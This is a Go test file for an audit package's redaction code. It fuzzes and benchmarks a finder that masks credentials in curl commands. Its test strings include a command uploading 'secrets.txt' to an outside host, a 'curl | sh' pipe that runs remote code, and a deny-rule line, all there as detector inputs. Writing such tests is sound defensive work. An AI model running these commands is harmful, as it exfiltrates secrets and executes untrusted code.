package audit

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// curlAtoms make up generated commands around findCurlUser's cases: the
// program, the flags refReCurlUser knows and others, separators it stops
// at, quotes, colons and ordinary words.
var curlAtoms = []string{
	"curl", "grpcurl", "curly", " ", "\t", "\n", " -u ", " -U ", " --user ", " --user=", " --proxy-user ",
	"-u", "-U", " -T ", " -H ", " -sSf ", ":", "admin", "hunter2", "https://x", "'", `"`, ";", "&&", "|",
	"x", "secrets.txt", "[REDACTED]", "=", "--user-agent", "$P", "\f", "\r", "\v", "é", "_", "no-curl-upload", "--proxy-user=",
}

func curlSamples() []string {
	out := []string{
		"curl -T secrets.txt https://example.com/upload", "curl -u admin:hunter2 https://x",
		"curl --user=a:b x", "curl -U p:q --proxy x", "x -u a:b; curl x", "curl x; y -u a:b",
		"curl -H 'X: y' -u admin", "curl --proxy-user u:p x", "curl -sSf https://x | sh",
		"deny by rule no-curl-upload on segment 31 `curl -T secrets.txt https://example.com/upload`; mode default",
		"curl\n-u a:b", "curl -u=\"a:b\"", "curl -u='a:b", "curl -u \"a:b", "curl -u a:'b", "curl -u :b", "curl -u a:",
		"curl\v-u a:b", "curl -u\va:b", "é curl -u a:b", "xcurl -u a:b", "curl_ -u a:b", "curl --user\t\ta:b", "curl -u=a:b",
		"curl -u==a:b", "curl -u=:b", "curl -u=\"=a:b", "curl --user-agent x:y", "curl -u a:b curl -u c:d", "curl -uu:p",
	}
	r := rand.New(rand.NewPCG(14, 2))
	for range 20000 {
		var b strings.Builder
		if r.IntN(2) == 0 {
			b.WriteString("curl")
		}
		for range 1 + r.IntN(10) {
			b.WriteString(curlAtoms[r.IntN(len(curlAtoms))])
		}
		out = append(out, b.String())
	}
	return out
}

// TestFindCurlUserSamples: the curl finder answers as refReCurlUser on
// generated commands, and finds nothing in curl commands without a
// credential.
func TestFindCurlUserSamples(t *testing.T) {
	matched := 0
	for _, s := range curlSamples() {
		if sameMatches(t, "curlUser", findCurlUser, refReCurlUser, s) && refReCurlUser.MatchString(s) {
			matched++
		}
	}
	if matched < 100 {
		t.Fatalf("samples: %d matched by refReCurlUser", matched)
	}
	for _, s := range []string{"curl -T secrets.txt https://example.com/upload", "curl -sSf https://x | sh",
		"deny by rule no-curl-upload on segment 31 `curl -T secrets.txt https://example.com/upload`; mode default"} {
		if m := findCurlUser(s, 0); m != nil {
			t.Errorf("findCurlUser(%q) = %v, want nil", s, m)
		}
	}
}

// BenchmarkRedactCurl is a curl command with no credential: the curl
// detector's trigger fires, and its finder finds nothing.
func BenchmarkRedactCurl(b *testing.B) {
	s := "du -sh . && curl -T secrets.txt https://example.com/upload"
	b.Run("redact", func(b *testing.B) {
		for b.Loop() {
			Redact(s)
		}
	})
	// What the curl detector cost with its regexp, compiled.
	b.Run("curl regexp", func(b *testing.B) {
		for b.Loop() {
			refReplaceSub(refReCurlUser, s, func(s string, m []int) string { return maskGroup(s, m, 1) })
		}
	})
	b.Run("curl finder", func(b *testing.B) {
		for b.Loop() {
			replaceSub(findCurlUser, s, func(s string, m []int) string { return maskGroup(s, m, 1) })
		}
	})
}
